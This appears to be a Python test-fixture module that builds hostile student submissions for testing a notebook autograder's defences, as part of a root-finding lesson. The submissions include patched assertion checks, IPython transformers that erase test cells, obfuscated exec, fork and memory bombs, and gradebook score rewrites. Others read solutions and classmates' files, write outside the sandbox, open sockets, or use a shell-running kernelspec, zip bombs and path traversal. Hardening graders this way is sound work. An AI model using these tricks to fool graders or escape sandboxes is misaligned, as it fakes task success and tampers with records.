"""Hostile and broken submissions of lesson 06_root_finding, built as files for `course grade`.

Each :class:`Attack` writes one student's submission (a notebook, or a raw file, or a zip)
into a class folder. Notebook attacks start from the untouched release, whose honest score is
0, and put their code in the first solution cell (``f_code``): an attack that worked would
score more than 0 without solving anything. ``CLASSMATE`` is an honest correct student
graded in the same run, whose files the attacks try to reach.
"""
from __future__ import annotations

import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from autograder import notebooks
from autograder.workspace import REPO

A = "06_root_finding"
NB = "root_finding.ipynb"
CLASSMATE = "honest-alice"
UNTOUCHED = "honest-bob"

# Names the tests call, answered by anything an attack likes (tests then fail on values,
# unless the attack also silences what judges them).
STUBS = """
from typing import NamedTuple as _NT
def f(x, a, b, c): return 0.0
def grad(x, a, b, c): return 0.0
def gradient_descent(grad_fn, x0, lr, tol=1e-10, max_iter=10_000, blowup=1e8):
    return Descent(0.0, 0, [0.0], "converged")
def find_roots(a, b, c, lr, tol=1e-12, max_iter=10_000, offset=1e-2, ftol=1e-8): return []
"""

NOOP_CHECKS = "lambda *args, **kwargs: None"


@dataclass(frozen=True)
class Context:
    """Paths an attack may aim at (all outside its own folder)."""

    class_dir: Path      # the submitted/ tree being graded
    lms: Path            # a folder of LMS zip downloads graded in the same run
    out: Path            # the grader's output course directory (gradebook.db)
    outside: Path        # a folder the test watches for files written by students
    port: int            # a TCP server on the host's loopback


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    build: Callable[[Path, Context], None]   # writes the submission under the class folder
    kind: str = "tamper"                     # tamper | fault | cells | file | escape
    fools_plain_grading: bool = False        # scores above the untouched release without tamper checks


def release() -> NotebookNode:
    return notebooks.read(REPO / "release" / A / NB)


def source() -> NotebookNode:
    return notebooks.read(REPO / "source" / A / NB)


def _cell(nb: NotebookNode, grade_id: str) -> NotebookNode:
    return next(c for c in nb.cells if notebooks.grade_id(c) == grade_id)


def student_path(root: Path, student: str) -> Path:
    return root / student / A / NB


def _code(code: str, stubs: bool = True) -> Callable[[Path, Context], None]:
    """An attack that puts ``code`` (formatted with the context) in the first solution cell."""

    def build(path: Path, ctx: Context) -> None:
        nb = release()
        text = code.format(class_dir=str(ctx.class_dir), out=str(ctx.out), outside=str(ctx.outside), port=ctx.port,
                           repo=str(REPO), source_nb=str(REPO / "source" / A / NB),
                           classmate=str(student_path(ctx.class_dir, CLASSMATE)))
        _cell(nb, "f_code").source = text + (STUBS if stubs else "")
        notebooks.write(nb, path)

    return build


def _cells(edit: Callable[[NotebookNode], None]) -> Callable[[Path, Context], None]:
    def build(path: Path, ctx: Context) -> None:
        nb = release()
        edit(nb)
        notebooks.write(nb, path)

    return build


def _raw(data: Callable[[], bytes]) -> Callable[[Path, Context], None]:
    def build(path: Path, ctx: Context) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data())

    return build


def _zip(entries: Callable[[], list[tuple[str, bytes]]]) -> Callable[[Path, Context], None]:
    """A zip (an LMS download) in place of the notebook's folder: <class>/<student>.zip."""

    def build(path: Path, ctx: Context) -> None:
        student = path.parents[1].name
        archive = ctx.lms / f"{student}.zip"
        archive.parent.mkdir(parents=True, exist_ok=True)
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in entries():
                zf.writestr(name, data)

    return build


def _delete_tests(nb: NotebookNode) -> None:
    nb.cells[:] = [c for c in nb.cells if not notebooks.is_autograded_test(c)]


def _duplicate_test(nb: NotebookNode) -> None:
    nb.cells.append(_cell(nb, "test_f").copy())


def _retype_test(nb: NotebookNode) -> None:
    cell = _cell(nb, "test_grad")
    cell.cell_type = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


def _relabel_test(nb: NotebookNode) -> None:
    _cell(nb, "test_find_roots").metadata["nbgrader"]["grade_id"] = "my_own_test"


def _points(nb: NotebookNode) -> None:
    _cell(nb, "test_f").metadata["nbgrader"]["points"] = 1000
    _cell(nb, "test_f").source = "print('test_f passed')"


def _kernelspec(nb: NotebookNode) -> None:
    nb.metadata["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "python",
                                 "argv": ["/bin/sh", "-c", "touch /tmp/pwned-kernelspec"]}


def _rewrite_tests(nb: NotebookNode) -> None:
    for cell in nb.cells:
        if notebooks.is_autograded_test(cell):
            cell.source = "print('passed')"


def _old_metadata(nb: NotebookNode) -> None:
    # nbgrader's schema 1 metadata (no schema_version, no task): stopped whole-class nbgrader runs
    for cell in nb.cells:
        m = cell.metadata.get("nbgrader")
        if m:
            m.pop("schema_version", None)
            m.pop("task", None)


def _solved_with_extra(code: str) -> Callable[[Path, Context], None]:
    """A correct solution that also runs ``code`` after its first solution cell."""

    def build(path: Path, ctx: Context) -> None:
        nb = notebooks.solved_copy(release(), source())
        index = nb.cells.index(_cell(nb, "f_code"))
        nb.cells.insert(index + 1, new_code_cell(code))
        notebooks.write(nb, path)

    return build


def _huge() -> bytes:
    nb = release()
    nb.metadata["padding"] = "x" * (25 * 2**20)
    return json.dumps(nb).encode()


def _zip_bomb() -> list[tuple[str, bytes]]:
    return [(f"zip-bomb/{A}/{NB}", b"0" * (300 * 2**20))]


def _zip_traversal() -> list[tuple[str, bytes]]:
    return [(f"../../escaped_{NB}", json.dumps(release()).encode()), (f"/abs/escaped_{NB}", b"{}")]


ATTACKS: list[Attack] = [
    # --- objects that pass any comparison
    Attack("always-true-eq", "every task returns an object whose __eq__ and __bool__ are always True",
           _code("class Yes:\n    def __eq__(self, other): return True\n    def __bool__(self): return True\n"
                 "    def __float__(self): return 0.0\n    def __getattr__(self, name): return self\n"
                 "    def __getitem__(self, i): return self\n"
                 "f = grad = gradient_descent = find_roots = lambda *a, **k: Yes()\n", stubs=False)),
    Attack("float-subclass-eq", "every task returns a float subclass that equals everything",
           _code("class F(float):\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
                 "f = grad = lambda *a, **k: F(0.0)\n", stubs=False)),
    Attack("tensor-eq-patch", "torch.Tensor.__eq__ and allclose made always true",
           _code("torch.Tensor.__eq__ = lambda self, other: True\ntorch.allclose = lambda *a, **k: True\n")),
    # --- patched judges
    Attack("patch-torch-allclose", "torch.allclose and torch.isclose always succeed",
           _code("torch.allclose = lambda *a, **k: True\ntorch.isclose = lambda *a, **k: torch.tensor(True)\n")),
    Attack("patch-assert-close", "torch.testing.assert_close does nothing",
           _code(f"torch.testing.assert_close = {NOOP_CHECKS}\n")),
    Attack("patch-numpy-testing", "numpy.testing's assertions do nothing",
           _code(f"np.testing.assert_allclose = {NOOP_CHECKS}\nnp.testing.assert_array_equal = {NOOP_CHECKS}\n")),
    Attack("patch-course-checks", "every course.checks function replaced by a no-op",
           _code(f"for _n in list(vars(checks)):\n    if _n.startswith('check'):\n        setattr(checks, _n, {NOOP_CHECKS})\n"), fools_plain_grading=True),
    Attack("rebind-checks-name", "the tests' `checks` name rebound to an object that accepts anything",
           _code("class _Lenient:\n    def __getattr__(self, name):\n        return lambda *a, **k: None\nchecks = _Lenient()\n"), fools_plain_grading=True),
    Attack("checks-code-swap", "course.checks functions' __code__ swapped for an empty body",
           _code("def _nothing(*a, **k):\n    return None\nchecks.check_float.__code__ = _nothing.__code__\n"
                 "checks.check_all_close.__code__ = _nothing.__code__\n"), fools_plain_grading=True),
    Attack("patch-builtins", "builtins.type and isinstance patched so any object passes type checks",
           _code("import builtins\n_t = builtins.type\nbuiltins.isinstance = lambda *a: True\n")),
    Attack("exec-obfuscated", "the course.checks patch hidden in hex-encoded exec",
           _code("exec(bytes.fromhex('" + "checks.check_float = lambda *a, **k: None".encode().hex() + "').decode())\n"), fools_plain_grading=True),
    Attack("getattr-obfuscated", "the patch reached through a computed getattr name",
           _code("_b = getattr(checks, '__buil' + 'tins__')\n_b['ex' + 'ec']('checks.check_float = lambda *a, **k: None')\n"), fools_plain_grading=True),
    # --- IPython machinery
    Attack("set-custom-exc", "set_custom_exc swallows every exception, so failing tests show no error",
           _code("get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n", stubs=False), fools_plain_grading=True),
    Attack("showtraceback", "showtraceback replaced: errors are never displayed",
           _code("_ip = get_ipython()\n_ip.showtraceback = lambda *a, **k: None\n_ip._showtraceback = lambda *a, **k: None\n", stubs=False), fools_plain_grading=True),
    Attack("sys-excepthook", "sys.excepthook replaced",
           _code("import sys\nsys.excepthook = lambda *a: None\n", stubs=False)),
    Attack("event-hook", "a pre_run_cell hook re-patches the checks before every cell",
           _code(f"def _hook(info):\n    checks.check_float = {NOOP_CHECKS}\nget_ipython().events.register('pre_run_cell', _hook)\n"), fools_plain_grading=True),
    Attack("input-transformer-tests", "an input transformer blanks every cell that calls the checks",
           _code("def _blank(lines):\n    return ['pass\\n'] if any('checks.' in l for l in lines) else lines\n"
                 "get_ipython().input_transformers_cleanup.append(_blank)\n", stubs=False), fools_plain_grading=True),
    Attack("input-transformer-all", "an input transformer blanks every later cell",
           _code("get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n", stubs=False), fools_plain_grading=True),
    Attack("input-transformer-spoof", "a transformer that turns any cell mentioning the grader into an 'ok' line",
           _code("import re\ndef _spoof(lines):\n    src = ''.join(lines)\n    m = re.search(r\"__grader_check\\('([0-9a-f]+)'\\)\", src)\n"
                 "    if m:\n        return [f\"print('@@grader-check {{m.group(1)}} ok')\\n\"]\n"
                 "    return ['pass\\n'] if 'checks.' in src else lines\n"
                 "get_ipython().input_transformers_cleanup.append(_spoof)\n", stubs=False), fools_plain_grading=True),
    Attack("ast-transformer", "an AST transformer deletes every statement of later cells",
           _code("import ast\nclass _Drop(ast.NodeTransformer):\n    def visit_Module(self, node):\n        node.body = []\n        return node\n"
                 "get_ipython().ast_transformers.append(_Drop())\n", stubs=False), fools_plain_grading=True),
    Attack("kernel-handler", "the kernel's execute_request handler replaced",
           _code("_k = get_ipython().kernel\n_k.shell_handlers['execute_request'] = _k.shell_handlers['kernel_info_request']\n", stubs=False),
           fools_plain_grading=True),
    Attack("settrace", "sys.settrace installs a tracer",
           _code("import sys\nsys.settrace(lambda *a: None)\n")),
    Attack("stdout-swap", "sys.stdout and sys.stderr replaced to hide output",
           _code("import io, sys\nsys.stderr = io.StringIO()\nsys.stdout = io.StringIO()\n")),
    Attack("grader-check-rebind", "the grader's own check function redefined",
           _code("__grader_check = lambda nonce: print(f'@@grader-check {{nonce}} ok')\n")),
    # --- faults
    Attack("sys-exit", "sys.exit() in a task cell", _code("import sys\nsys.exit(0)\n"), "fault"),
    Attack("raise-systemexit", "raise SystemExit", _code("raise SystemExit(1)\n"), "fault"),
    Attack("raise-keyboardinterrupt", "raise KeyboardInterrupt", _code("raise KeyboardInterrupt\n"), "fault"),
    Attack("os-exit", "os._exit kills the kernel", _code("import os\nos._exit(0)\n"), "fault"),
    Attack("kill-kernel", "the kernel SIGKILLs itself", _code("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"), "fault"),
    Attack("infinite-loop", "an infinite loop", _code("while True:\n    pass\n"), "fault"),
    Attack("sleep", "time.sleep(10**6)", _code("import time\ntime.sleep(10**6)\n"), "fault"),
    Attack("memory-bomb", "allocates memory until it runs out",
           _code("_hoard = []\nwhile True:\n    _hoard.append(bytearray(2**28))\n"), "fault"),
    Attack("fork-bomb", "forks until it cannot",
           _code("import os, time\nwhile True:\n    if os.fork() == 0:\n        time.sleep(3600)\n"), "fault"),
    Attack("huge-output", "prints 100 MB", _code("print('x' * 100_000_000)\n"), "fault"),
    # --- escapes
    Attack("read-source", "reads the instructor's source notebook and runs its solutions",
           _code("import json\n_nb = json.load(open({source_nb!r}))\nfor _c in _nb['cells']:\n"
                 "    if _c['cell_type'] == 'code' and 'BEGIN SOLUTION' in ''.join(_c['source']):\n"
                 "        exec(''.join(_c['source']))\n", stubs=False), "escape"),
    Attack("read-classmate", "reads a classmate's submission and runs its code",
           _code("import json\n_nb = json.load(open({classmate!r}))\nfor _c in _nb['cells']:\n"
                 "    if _c['metadata'].get('nbgrader', {{}}).get('solution'):\n        exec(''.join(_c['source']))\n", stubs=False), "escape"),
    Attack("gradebook-rewrite", "opens the class gradebook and sets every score to full marks",
           _code("import sqlite3\n_db = sqlite3.connect({out!r} + '/gradebook.db')\n"
                 "_db.execute('update grade set auto_score = 100')\n_db.commit()\n"), "escape"),
    Attack("write-outside", "writes into the course, the home folder, /tmp and the watched folder",
           _code("import os\nfor _p in [{repo!r} + '/pwned.txt', os.path.expanduser('~root/pwned.txt'), '/tmp/pwned.txt', {outside!r} + '/pwned.txt']:\n"
                 "    try:\n        open(_p, 'w').write('pwned')\n    except OSError:\n        pass\n"), "escape"),
    Attack("network", "opens a socket to the host's loopback and to the internet",
           _code("import socket\nfor _addr in [('127.0.0.1', {port}), ('1.1.1.1', 53)]:\n    try:\n"
                 "        socket.create_connection(_addr, timeout=2).sendall(b'pwned')\n    except OSError:\n        pass\n"), "escape"),
    Attack("solved-but-patches", "a correct solution that also disables the checks for later cells",
           _solved_with_extra(f"checks.check_all_close = {NOOP_CHECKS}"), "tamper", fools_plain_grading=True),
    # --- grade cells
    Attack("delete-tests", "every test cell deleted", _cells(_delete_tests), "cells"),
    Attack("duplicate-test", "a test cell duplicated", _cells(_duplicate_test), "cells"),
    Attack("retype-test", "a test cell turned into markdown", _cells(_retype_test), "cells"),
    Attack("relabel-test", "a test cell's grade_id changed", _cells(_relabel_test), "cells"),
    Attack("points-and-body", "a test cell given 1000 points and an empty body", _cells(_points), "cells"),
    Attack("rewrite-tests", "every test replaced by print('passed')", _cells(_rewrite_tests), "cells"),
    Attack("kernelspec", "the notebook names a kernelspec that runs a shell", _cells(_kernelspec), "cells"),
    Attack("old-metadata", "nbgrader metadata of an old schema", _cells(_old_metadata), "file"),
    # --- files
    Attack("malformed-json", "not JSON", _raw(lambda: b'{"cells": [ '), "file"),
    Attack("nbformat-3", "an nbformat 3 notebook",
           _raw(lambda: json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}).encode()), "file"),
    Attack("empty-file", "an empty file", _raw(lambda: b""), "file"),
    Attack("binary-garbage", "random bytes", _raw(lambda: os.urandom(4096)), "file"),
    Attack("huge-file", "a 25 MB notebook", _raw(_huge), "file"),
    Attack("zip-bomb", "a zip whose notebook expands to 300 MB", _zip(_zip_bomb), "file"),
    Attack("zip-traversal", "a zip with ../ and absolute paths", _zip(_zip_traversal), "file"),
]
